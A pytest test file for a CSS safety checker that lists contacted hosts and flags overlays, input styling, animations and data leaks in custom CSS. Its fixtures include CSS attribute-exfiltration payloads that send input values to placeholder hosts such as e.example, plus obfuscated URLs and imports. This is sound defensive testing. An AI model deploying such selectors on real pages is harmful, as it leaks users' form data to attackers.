"""The verdict on CSS: its hosts, imports, risks and documents, and the service of it (contract L4)."""

import base64
import gc
import time
from collections.abc import Iterable, Mapping, Sequence
from typing import Final, Never, cast, get_args
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tinycss2.ast import CurlyBracketsBlock

from logoadmin import CreateTheme, InvalidInput, LogoAdmin
from logoadmin.adapters.memory_storage import MemoryStorage
from logoadmin.domain.kernel.kinds import CssForm
from logoadmin.domain.publication.css import MAX_BLOCKS, TOO_LONG, judge
from logoadmin.domain.publication.css import judging as verdict
from logoadmin.domain.publication.css.css_service import MAX_SECONDS, GetThemeCss, JudgeCss
from logoadmin.domain.publication.css.judging import MAX_RISKS, TOO_DEEP, TOO_MANY
from logoadmin.domain.publication.css.tokens import MAX_LEVELS
from logoadmin.domain.publication.css.verdict import CssRisk, RiskName, Verdict
from tests.domain.publication.css_samples import HOSTS, A, B, using
from tests.domain.publication.data_documents import ADDRESS, HARMLESS, HOST, RISKY, svg, url
from tests.gallery import ARTWORK, FrozenClock, failure, gallery_on
from tests.strategies import css_texts

pytestmark = pytest.mark.rule("contract L4")

# What the console's list of hosts, which knows no values of variables, has only in part.
INDIRECT_HOSTS: Final = {
    (A,): (
        *("a{b:image-set(var(--x, 'https://a.example') 1x)}", "a{b:--x('https://a.example')}"),
        *("@property --x{syntax:'*';initial-value:'https://a.example'}", "a{b:red\u00a0url(https://a.example)}"),
    ),
    (A, B): ("@function --x(--y:'https://b.example:8080'){result:'https://a.example'}",),
}
X: Final = "https://a.example/x"
IMPORTS: Final[dict[tuple[str, ...], tuple[str, ...]]] = {
    (X,): (
        *(f"@import '{X}';", f'@import "{X}"', f"@import src('{X}') layer", "@\\69mport url('https://a.example/\\78')"),
        f"@IMPORT/**/url( {X} )layer(y) supports(z:url(//b.example:8080)) print",
        # Browsers seem to ignore them.
        *(f"a{{}}@import '{X}';", f"a{{@import '{X}';}}", f"@import '{X}' {{}}", f"@import '{X}"),
        *(f"@media all{{@import '{X}'}}", f"foo;@import '{X}';"),
    ),
    ("//a.example/x", "y"): ("@charset 'utf-8';@layer a,b;@import'//a.example/x';<!--@import url(y)-->",),
    ("y",): ("@import 'x\n;@import 'y';",),
    (): (f"@import print '{X}'; @import;",),
}

# The URL Standard as browsers implement it.
URLS: Final[dict[tuple[str, ...], tuple[str, ...]]] = {
    (A,): (
        *("HTTPS://A.Example:443/", "http://a.example:80", "https://u:p@no.example@a.example"),
        *("https://a.example\\@no.example", "\\\\a.example", "/\\a.example", "///a.example", "https:\\\\a.example"),
        *("https:a.example", "https:/a.example", "ht\ttps:/\n/a.exa\rmple", "\x01 https://a.example "),
        *("https://\uff41\u3002example", "https://a\u00ad.exam\u2060ple", "https://\U0001ccd6.example"),
        *("wss://a.example", "ftp://a.example", "file://a.example/x"),
    ),
    ("a.example:80",): ("https://a.example:80", "https://a.example:0080"),
    (A, "a.example:443"): ("//a.example:443",),
    ("a.xn--exmple-cua",): ("https://%61.ex\u00e4mple",),
    ("xn--fa-hia.example",): ("https://fa\u00df.example",),
    ("127.0.0.1",): ("http://0x7f.1",),
    ("127.0.0.1:8080",): ("http://2130706433:8080",),
    ("[::1]:8000",): ("http://[0:0::1]:8000/x",),
    ("[2001:db8::ffff:102:304]",): ("https://[2001:DB8::FFFF:1.2.3.4]",),
    (): (
        *("data:image/png;base64,xx", "about:blank", "blob:https://no.example/1", "javascript:1", "foo://no.example"),
        *("#https://no.example", "https:", "https://", "https://no.example:65536", "https://no<.example"),
        *("https://1.2.3.256", "https://[::1", "x//no.example"),
    ),
}


def each_of(*tables: Mapping[tuple[str, ...], Iterable[str]]) -> list[tuple[str, tuple[str, ...]]]:
    return [(text, expected) for table in tables for expected, texts in table.items() for text in texts]


# Each is repeated; none may take more than time in proportion.
PIECES: Final = (
    *("{", "(", "[", "a(", "url(", "a{", "@a{", "@a{position:fixed;", "\\", "'", '"\\', "/*", "*/", "}", ")"),
    *("a{b:c}", "a,", "a{position:fixed}", "@import ", "@import 'x';", "@import url(data:,", "--x:{", "a[b^=c]{--x:y}"),
    *("a{&{position:fixed}", "x:var(", "a{b:src(attr(", "u+1-", "\u00e9", "\r\n", "<!--", "url(//\u00e9."),
)


@pytest.mark.parametrize(("css", "hosts"), each_of(HOSTS, INDIRECT_HOSTS))
def test_every_host_that_a_browser_would_contact_is_listed_once(css: str, hosts: tuple[str, ...]) -> None:
    assert judge(css, "sheet").hosts == judge(css.replace("\n", "\r\n"), "sheet").hosts == hosts


@pytest.mark.parametrize(
    "css", ["a:url(//a.example)", "} b{c:url(//a.example)}", "@x url(//a.example);", "{url(//a.example"]
)
def test_hosts_count_even_where_declarations_cannot_have_them(css: str) -> None:
    assert judge(css, "declarations").hosts == (A,)


@pytest.mark.parametrize(("css", "urls"), each_of(IMPORTS))
def test_imports_are_listed_wherever_they_are(css: str, urls: tuple[str, ...]) -> None:
    for form in get_args(CssForm):
        verdict = judge(css, form)
        assert verdict.import_urls == urls
        assert (A in verdict.hosts) == any(A in address for address in urls)


@pytest.mark.parametrize(("address", "hosts"), each_of(URLS))
def test_urls_are_read_as_browsers_read_them(address: str, hosts: tuple[str, ...]) -> None:
    escaped = "".join(f"\\{ord(character):x} " for character in address)
    assert judge(f"a{{b:url({escaped})}}", "sheet").hosts == hosts


def test_sheets_in_data_urls_count() -> None:
    inner = f"@import '//a.example';c{{d:url(//{B})}}"
    nested = f"@import 'data:text/css,{quote(inner)}'"
    for sheet in (
        f"data:text/css,{quote(inner)}",
        f" da\\9 ta:,{quote(inner)}#x",
        f"data:text/css;base64,{base64.b64encode(inner.encode()).decode()}",
        f"data:;charset=UTF-16le,{quote(inner.encode('utf-16-le'))}",
        f"data:text/css,{quote(inner.encode('utf-16'))}",
        f"data:text/css,{quote(nested)}",
    ):
        verdict = judge(f"@import url({sheet})", "sheet")
        assert (verdict.hosts, len(verdict.imports)) == ((A, B), 1)
    for _ in range(4):
        nested = f"@import 'data:text/css,{quote(nested)}'"
    (risk,) = judge(f"\n{nested}", "sheet").risks
    assert (risk.risk, risk.line, risk.column) == ("invalid", 2, 1)


@given(css_texts(), st.sampled_from(["sheet", "declarations"]))
def test_any_text_has_a_verdict(css: str, form: CssForm) -> None:
    verdict = judge(css, form)
    assert list(verdict.hosts) == sorted({host.lower() for host in verdict.hosts})
    lines = css.replace("\r\n", "\n").replace("\r", "\n").replace("\f", "\n").split("\n")
    for risk in verdict.risks:
        assert 1 <= risk.column <= len(lines[risk.line - 1])


@pytest.mark.parametrize("css", ["{" * (MAX_BLOCKS + 1), "[" * 262_144, "a{}" * (MAX_BLOCKS + 1), "f(" * 100_001])
def test_a_text_with_too_many_blocks_is_invalid_without_being_read(css: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def read(_css: str) -> Never:
        raise AssertionError("it is read")

    monkeypatch.setattr(verdict, "tokenize", read)
    for form in get_args(CssForm):
        found = judge(css, form)
        assert (found.hosts, found.imports, found.size) == ((), (), len(css))
        assert [(risk.risk, risk.line, risk.column) for risk in found.risks] == [("invalid", 1, 1)]


@pytest.mark.parametrize("block", ["a{", "[", "(", "f(", "@media{"])
def test_blocks_inside_more_than_64_others_are_invalid(block: str) -> None:
    ends = {"{": "}", "[": "]", "(": ")"}[block[-1]]
    deep, deepest = ("a{}" + block * levels + ends * levels for levels in (MAX_LEVELS, MAX_LEVELS + 1))
    # Where the block itself begins, for a function its name.
    column = 4 + len(block) * MAX_LEVELS + (0 if block == "f(" else len(block) - 1)
    for css, is_too_deep in ((deep, False), (deepest, True)):
        places = [risk.column for risk in judge(css, "sheet").risks if risk.risk == "invalid"]
        assert (column in places) is is_too_deep, css


def _seconds(css: str) -> float:
    began = time.process_time()
    judge(css, "sheet")
    return time.process_time() - began


@pytest.mark.slow("it measures the time of the processor")
@pytest.mark.parametrize("piece", PIECES)
def test_a_text_takes_time_in_proportion_to_its_length(piece: str) -> None:
    # With the square of the length, it would be 64 times.
    assert _seconds(piece * 4000) < 24 * max(_seconds(piece * 500), 0.005)


@pytest.mark.slow("hundreds of thousands of blocks")
@pytest.mark.parametrize("css", ["{" * 60_000, "a{" * 60_000, "(" * 2**18, "\\\\" * 2**19])
def test_any_nesting_depth_is_handled(css: str) -> None:
    assert {each.risk for each in judge(css, "sheet").risks} <= {"invalid"}


WINDOW: Final = "width:100vw;height:100vh"

# The mark § is where a risk is; it is not part of the CSS.
OVERLAYS = [
    *("a{§position:fixed;inset:0}", "a{inset:0;color:red;§position:fixed!important}"),
    *(f"a{{§position:absolute;{WINDOW}}}", "a{§position:sticky;min-block-size:95dvh;min-inline-size:stretch}"),
    "a{§position:-webkit-sticky;top:0;left:-1px;bottom:0%;right:calc(1px - 1px)}",
    "a{§position:absolute;inset-block:0;inset-inline-start:0;inset-inline-end:var(--x)}",
    *("a{§position:fixed}@media print{b,a{inset:0}}", "a{§position:fixed;@media all{&{inset:0}}}"),
    *("a{§position:fixed;inset:1px}", "a{§position:fixed;inset:10% 20px}", "a{§position:absolute;inset:0 auto}"),
    *("a{§position:sticky;top:9px;bottom:5em}", "a{§position:absolute;left:-1vw;right:30%}"),
    *("a{§position:fixed;inset:auto 1px auto 1px}", "a{§PO\\53ition:FIXED;WIDTH:100%;HEIGHT:2000px}"),
    *("a{§position:fixed;inset:var(--a)}", "a{§position:fixed;top:anchor(top);bottom:anchor(bottom)}"),
    *("a{§position:fixed;width:50%;height:50%}", "a{§position:fixed;width:50vw;height:55svh}"),
    *("a{§position:fixed;min-width:640px;min-height:360px}", "a{§position:fixed;width:40em;height:calc(1px*900)}"),
    *(".a  > b{§position:fixed;top:0}.A > b{bottom:0}", "a{@media all{§position:fixed}inset:0}"),
    "a{§position:var(--x);inset:0}",
]
NO_OVERLAYS = [
    *("a{position:absolute;top:0;left:0}", "a{position:fixed;inset:auto auto 0 0;width:49%;height:100%}"),
    *("a{position:absolute;inset:0 auto auto;height:9px}", "a{position:absolute}b{inset:0}"),
    *("a{position:relative;inset:0;z-index:5}", "a{position:fixed;z-index:10;width:100%}", "a{inset:0}"),
    "a{position:fixed}a::before{inset:0}",
]
INPUTS = [
    *("§input{color:red}", "b,§INPUT.x:focus{}", "form>§textarea{}", "p:is(§select,b){}", "p{&:has(§input){}}"),
    *("§[type=password]{}", "x:§placeholder-shown{}", "x::§-webkit-input-placeholder{}", "x:§-webkit-autofill{}"),
    *("@scope(§input){b{}}", "a{§caret-color:red}", "@media all{§inp\\75t{}}"),
]
NO_INPUTS = ["a.input{}", "#input{}", "a{content:'input'}", "[data-x=input]{}", "input-box{}", "@media (update:x){a{}}"]
EXFILTRATION = [
    *("x§[value^='a']{background:url(//e.example/a)}", "§[href*='a']{p{content:image-set('https://e.example' 1x)}}"),
    *("p:has(§[x$=a]) q{b:url(//e.example)}", "§[x=a]{--y:1}b{c:url(//e.example)}"),
    "§[x|=a]{font-family:f}@font-face{font-family:f;src:url(//e.example)}",
    "§[x~=a]{c:var(--y)}:root{--y:url(//e.example)}",
    "§[x=a]{width:1px}@container(width:1px){b{c:url(//e.example)}}",
    *("@font-face{font-family:f;src:url(//e.example);§unicode-range:U+61}", "a{§b:src(attr(value))}"),
    "@scope(§[a=b]){c{d:url(//e.example)}}",
    # A request that is prevented, or that starts by way of another rule.
    *("§[x^=a] b{display:none}b{c:url(//e.example)}", "§[x^=a] b{background:none}b{background:url(//e.example)}"),
    "§[x=a]{width:1px}@container(width:1px){b{animation:k}}@keyframes k{to{c:url(//e.example)}}",
    *(
        f"b{{c:url(//e.example)}}§[x^=a]{{{each}}}"
        for each in ("visibility:hidden", "filter:none", "border-style:none", "color-scheme:dark", "--x-color:1")
    ),
    *(f"@import '//e.example';§[x^=a]{{{each}}}" for each in ("animation-play-state:running", "font-weight:700")),
    # Chromium, which fetches nothing out of sight, fetches a font for a letter that those before it lack.
    *(
        f"a{{{each}}}b{{c:url(//e.example)}}§[x^=a]{{margin-top:9999px}}"
        for each in ("content-visibility:auto", "animation-timeline:view()")
    ),
    *(
        f"@font-face{{font-family:f;src:url(//e.example)}}b{{font-family:g,f}}§[x^=a]{{{each}}}"
        for each in ("text-emphasis:'x'", "text-transform:uppercase", "text-overflow:ellipsis", "-webkit-line-clamp:1")
    ),
    "a{§--x:attr(value type(<custom-ident>));animation-name:var(--x)}b{c:url(//e.example)}",
    "§[x=a]{view-transition-name:t}::view-transition-old(t){c:url(//e.example)}",
]
# An attribute's value by way of attr(), with a query and a request.
ATTRIBUTES: Final = [
    "a{§--x:attr(value)}@container style(--x:1){b{c:url(//e.example)}}",
    "a{§--x:attr(value type(<number>))}@container style(--x > 5){b{c:url(//e.example)}}",
    "a{§--x:attr(value);@container style(--x:1){b{c:url(//e.example)}}}",
    "a{§--x:\\61ttr(value)}@CONTAINER style(--x:1){b{c:url(//e.example)}}",
    "a{§width:attr(value px)}@container(width>5px){b{c:url(//e.example)}}",
    "a{§width:calc(1px*attr(value))}@container x (width>5px){b{c:url(//e.example)}}",
    "a{§--x:attr(value)}@container style(--x:1){b{font-family:f}}@font-face{font-family:f;src:url(//e.example)}",
    "a{§--x:attr(value)}@container style(--x:1){b{--y:1}}@import '//e.example';",
    "a{§--x:attr(value);c:if(style(--x:1):url(//e.example);else:none)}",
    "a{§--x:attr(value)}b{c:if(style(--x:1):var(--u))}q{--u:url(//e.example)}",
    "a{§c:if(style(--x:attr(value)):url(//e.example))}",
    "§@container style(--x:attr(value)){b{c:url(//e.example)}}",
    "@function --f(){§result:attr(value)}@container style(--x:1){b{c:url(//e.example)}}",
    "a{§animation-name:attr(value type(<custom-ident>))}b{c:url(//e.example)}",
    "a{§font-family:attr(value)}@font-face{font-family:f;src:url(//e.example)}",
]
NO_EXFILTRATION = [
    *("a{content:attr(title)}b{c:url(//e.example)}", "a{--x:attr(value)}@container style(--x:1){b{c:url(i.png)}}"),
    *("@container(width>5px){b{c:url(//e.example)}}", "[x^=a]{color:red}b{c:url(//e.example)}"),
    *(
        "[x]{b:url(//e.example)}",
        "[x^=a]{margin-top:1px;border-color:red;position:fixed;flex:1;text-align:left;line-height:1}b{c:url(//e.example)}",
        "[x^=a]{b:url(i.png)}",
        "[x^=a]{--y:1}b{c:var(--y)}",
    ),
    *(
        "@font-face{font-family:f;src:local(x);unicode-range:U+61}",
        "[x^=a]{color:var(--y)}b{c:url(//e.example)}c{--y:1}",
    ),
]
ANIMATIONS = [
    *("§@keyframes x{}", "§@-webkit-keyframes x{from{a:b}}", "a{§animation:x 1s}", "a{§-webkit-animation-name:x}"),
    "@media all{a{b:c;§ANIMATION:none,x}}",
]
NO_ANIMATIONS = ["a{animation:none!important;animation-name:inherit}", "a{transition:all 1s}", "a{animation-delay:1s}"]
INVALID = [
    *("a§{", "a{b:'c'}§}", "a§{b:§(c", "a{}§/* b", "a§{b:§'c", "a§{b:§url(c", "a{b:§'c\n}", "a{}§}"),
    "a§{b:§url(c d\\)}",
]
VALID = [
    *("", "a{}", "a{b:c;}", "<!-- a{} -->", "@import 'x'", "/* } */ a { b: '}' }", "a{--b:{c};--d:;e:f}"),
    *("a{&:hover{b:c}@media all{d:e}f g{}}", "@media all{a{b:url(c)}}", "@layer a, b;", "a{b:url()}", "a{b:foo()}"),
    *("\ufeffa{}", "a{//b:c;\nd:e}", "a{b}", "a{*b:c}", "a", "{b:c}", "a{}\r\n\f\u00e9)b{}", "a{b:\\\nc}"),
    "a{b:url(c d)}",
]

RISKS_OF: Final[Sequence[tuple[CssForm, RiskName, list[str]]]] = (
    ("sheet", "overlay", OVERLAYS + NO_OVERLAYS),
    ("sheet", "input_styling", INPUTS + NO_INPUTS),
    ("sheet", "attribute_exfiltration", EXFILTRATION + ATTRIBUTES + NO_EXFILTRATION),
    ("sheet", "animation", ANIMATIONS + NO_ANIMATIONS),
    ("sheet", "invalid", INVALID + VALID),
    ("declarations", "overlay", ["§position:fixed;inset:0", "position:absolute"]),
    ("declarations", "input_styling", ["-x:y;§-webkit-text-security:disc"]),
    ("declarations", "animation", ["§animation:x 1s", "animation:none"]),
    ("declarations", "invalid", ["a: b; §@media all { c: d }", "a: b; §c { d: e }", "a: b§}", "--a: §{}"]),
    ("declarations", "invalid", ["§@import 'x'", "a: b; c: d", "", "a: b; ;"]),
)


def marked(css: str) -> tuple[str, list[tuple[int, int]]]:
    """Return CSS without its marks, and the lines and columns of these."""
    found, parts = [], css.split("§")
    for index in range(1, len(parts)):
        before = "".join(parts[:index]).replace("\r\n", "\n").replace("\f", "\n")
        found.append((before.count("\n") + 1, len(before) - before.rfind("\n")))
    return "".join(parts), found


@pytest.mark.parametrize(("form", "risk", "text"), [(*of, text) for *of, texts in RISKS_OF for text in texts])
def test_the_risks_of_css_are_found_at_their_places(form: CssForm, risk: RiskName, text: str) -> None:
    css, expected = marked(text)
    assert [(each.line, each.column) for each in judge(css, form).risks if each.risk == risk] == expected


def test_only_the_first_risks_of_a_kind_are_listed() -> None:
    risks = judge("input{}" * 100 + "@keyframes x{}", "sheet").risks
    assert [each.risk for each in risks] == ["input_styling"] * MAX_RISKS + ["animation"]
    assert risks[1] == CssRisk("input_styling", 1, 8)


def sheet(document: str, use: str = "mask") -> str:
    """Return CSS that uses a `data:` URL, as a string in which nothing has to be read twice."""
    return f"\n a{{{using(document, [use])}}}"


@pytest.mark.parametrize("document", HARMLESS)
def test_a_self_contained_document_is_no_risk(document: str) -> None:
    verdict = judge(sheet(document), "sheet")
    assert (verdict.risks, verdict.hosts) == ((), ())


@pytest.mark.parametrize("document", RISKY)
def test_an_unreadable_document_or_one_with_references_is_a_risk(document: str) -> None:
    for form, css in (("sheet", sheet(document)), ("declarations", sheet(document)[4:-1])):
        verdict = judge(css, cast(CssForm, form))
        assert {each.risk for each in verdict.risks} == {"document"}


@pytest.mark.parametrize("use", ["clip-path", "filter", "mask", "fill", "marker-start", "background", "--x"])
def test_hosts_in_a_document_count_wherever_it_is_used(use: str) -> None:
    verdict = judge(sheet(url(svg(f"<image href='{ADDRESS}'/>")), use), "sheet")
    assert (verdict.hosts, [(each.risk, each.line) for each in verdict.risks]) == ((HOST,), [("document", 2)])


def test_documents_in_imported_sheets_count_at_the_import() -> None:
    inner = sheet(url(svg("<script/>"))).replace("%", "%25")
    verdict = judge(f"@import 'data:text/css,{inner.strip().replace(chr(34), '%22')}'", "sheet")
    assert [(each.risk, each.line, each.column) for each in verdict.risks] == [("document", 1, 1)]


def test_documents_are_read_to_three_levels_of_nesting() -> None:
    document = url(svg("<rect/>"))
    for levels in (2, 3):
        document = url(svg(f'<image href="{document}"/>'))
        assert judge(sheet(document), "sheet").risks == (), levels
    assert judge(sheet(url(svg(f'<image href="{document}"/>'))), "sheet").risk_names == ("document",)


def test_the_verdict_is_that_of_a_record_with_the_same_css(gallery: LogoAdmin) -> None:
    css = "a{background:url(//i.example)}@import 'https://s.example/\u00e9\U0001f600';"
    logo = gallery.css.judge(JudgeCss(kind="logo", custom_css=css))
    theme = gallery.css.judge(JudgeCss(kind="theme", custom_css=css))
    assert (logo, theme) == (judge(css, "declarations"), judge(css, "sheet"))
    assert logo.hosts == theme.hosts == ("i.example", "s.example")
    assert logo.size == len(css) + 4  # in bytes


class RunningClock(FrozenClock):
    """Each look at it takes a while."""

    def worked(self) -> float:
        self.looked = getattr(self, "looked", 0.0) + MAX_SECONDS / 3
        return self.looked


@pytest.mark.parametrize("is_stored", [False, True])
def test_css_that_takes_too_long_is_invalid_and_may_be_retried(is_stored: bool) -> None:
    css = f"p{{background:url(//slow.example/{is_stored})}}"

    def judged(clock: FrozenClock) -> Verdict:
        gallery = gallery_on(MemoryStorage(), clock)
        if not is_stored:
            return gallery.css.judge(JudgeCss(kind="theme", custom_css=css))
        stored = gallery.themes.create(CreateTheme(**ARTWORK | {"custom_css": css}))
        return gallery.themes.css(GetThemeCss(theme_id=stored.theme_id))

    slow, quick = judged(RunningClock()), judged(FrozenClock())
    assert slow == Verdict("sheet", (), (), len(css), (CssRisk("invalid", 1, 1),), TOO_LONG)
    assert (quick.hosts, bool(slow.version), bool(quick.version)) == (("slow.example",), False, is_stored)


@pytest.mark.parametrize(
    ("css", "reason"), [("{" * 30_000, TOO_MANY), ("a{" * 65 + "}" * 65, TOO_DEEP), ("a{" * 64 + "}" * 64, "")]
)
def test_a_text_that_is_not_judged_in_full_has_a_reason(css: str, reason: str) -> None:
    assert judge(css, "sheet").reason == reason


def test_other_kinds_and_longer_texts_are_refused() -> None:
    refused = {"kind": "author", "custom_css": ""}, {"kind": "logo"}, {"kind": "logo", "custom_css": "a" * 524_289}
    for values in refused:
        assert failure(JudgeCss, **values) is InvalidInput


def test_remembered_findings_keep_no_blocks() -> None:
    """A tree of blocks takes sixty times the memory of its text."""

    def blocks() -> int:
        gc.collect()
        return sum(isinstance(each, CurlyBracketsBlock) for each in gc.get_objects())

    before = blocks()
    judge("@-moz-document domain('remembered.example') { a { b: c } }", "sheet")
    assert blocks() == before
